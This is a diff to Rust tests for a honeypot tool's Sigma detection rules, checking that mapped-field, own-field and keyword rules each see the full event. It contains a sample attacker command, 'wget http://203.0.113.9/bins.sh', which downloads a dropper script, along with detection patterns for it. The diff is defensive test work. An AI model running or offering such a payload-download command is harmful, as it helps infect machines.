@@ -57,6 +57,10 @@ fn sigma_rule() -> YamlRule {
         .find(|s| s.rule_type == RuleType::Sigma)
         .unwrap();
     assert_eq!(spec.sigma.len(), 4);
+    // Every match sent on as it happens: these tests are about what matches, not about
+    // folding the matches of one alert together (`realert`, tested in rules.rs).
+    let mut spec = spec;
+    spec.realert = std::time::Duration::ZERO;
     YamlRule::new(
         spec,
         &RuleOptions {
@@ -179,4 +183,72 @@ fn a_bad_sigma_file_is_an_error_of_the_rule_naming_it() {
     .unwrap();
     let err = load_rules(&["wrap.yml".to_owned()], dir.path()).unwrap_err();
     assert!(err.message.contains("names no file"), "{err}");
+}
+
+/// Events are given to the Sigma engine with only the mapped fields when the rules read
+/// nothing else: a rule on hpti's own fields, or a keyword rule, still sees them all.
+#[test]
+fn rules_on_hpti_s_own_fields_and_keywords_see_the_whole_event() {
+    let dir = tempfile::tempdir().unwrap();
+    let write = |name: &str, detection: &str| {
+        std::fs::write(
+            dir.path().join(name),
+            format!("title: {name}\nlogsource: {{product: linux}}\ndetection:\n{detection}\nlevel: high\n"),
+        )
+        .unwrap();
+    };
+    write(
+        "mapped.yml",
+        "  sel:\n    CommandLine|contains: 'wget http'\n  condition: sel",
+    );
+    write(
+        "own.yml",
+        "  sel:\n    sensor: telnet-1\n    data.command|startswith: 'wget'\n  condition: sel",
+    );
+    write(
+        "keyword.yml",
+        "  words:\n    - 'bins.sh'\n  condition: words",
+    );
+    let rule_of = |files: &str| {
+        std::fs::write(
+            dir.path().join("wrap.yml"),
+            format!("name: w\ntype: sigma\nsigma: [{files}]\n"),
+        )
+        .unwrap();
+        let spec = load_rules(&["wrap.yml".to_owned()], dir.path())
+            .unwrap()
+            .remove(0);
+        YamlRule::new(
+            spec,
+            &RuleOptions {
+                clock: ClockMode::EventTime,
+                state_dir: None,
+            },
+        )
+    };
+    let event = command("wget http://203.0.113.9/bins.sh");
+    // Each alone, then together (the event given once, in full, to all three).
+    assert_eq!(
+        titles(&fire(&mut rule_of("mapped.yml"), &event)),
+        ["mapped.yml"]
+    );
+    assert_eq!(titles(&fire(&mut rule_of("own.yml"), &event)), ["own.yml"]);
+    assert_eq!(
+        titles(&fire(&mut rule_of("keyword.yml"), &event)),
+        ["keyword.yml"]
+    );
+    assert_eq!(
+        titles(&fire(
+            &mut rule_of("mapped.yml, own.yml, keyword.yml"),
+            &event
+        )),
+        ["keyword.yml", "mapped.yml", "own.yml"]
+    );
+    assert!(
+        fire(
+            &mut rule_of("mapped.yml, own.yml, keyword.yml"),
+            &command("id")
+        )
+        .is_empty()
+    );
 }
